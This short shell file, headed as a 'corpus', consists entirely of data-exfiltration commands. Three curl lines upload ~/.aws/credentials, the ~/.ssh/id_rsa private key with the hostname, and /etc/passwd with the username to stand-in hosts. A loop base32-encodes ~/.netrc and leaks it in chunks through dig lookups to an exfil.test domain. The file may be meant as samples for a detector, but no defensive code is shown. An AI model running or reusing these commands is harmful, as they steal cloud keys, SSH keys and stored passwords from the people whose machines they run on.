# corpus: curl -d @file and -F uploads of credential files to evil.example.net plus dig-based DNS exfiltration
curl -s -X POST -d @"$HOME/.aws/credentials" https://evil.example.net/c
curl -s -F "k=@$HOME/.ssh/id_rsa" -F "h=$(hostname)" http://203.0.113.45/upload
curl -s --data-binary @/etc/passwd "http://evil.example.net/p?u=$(whoami)"

base32 -w 0 < "$HOME/.netrc" | fold -w 50 | nl -nln | while read -r n chunk; do
    dig +short "${n}.${chunk}.x.exfil.test" >/dev/null 2>&1
done
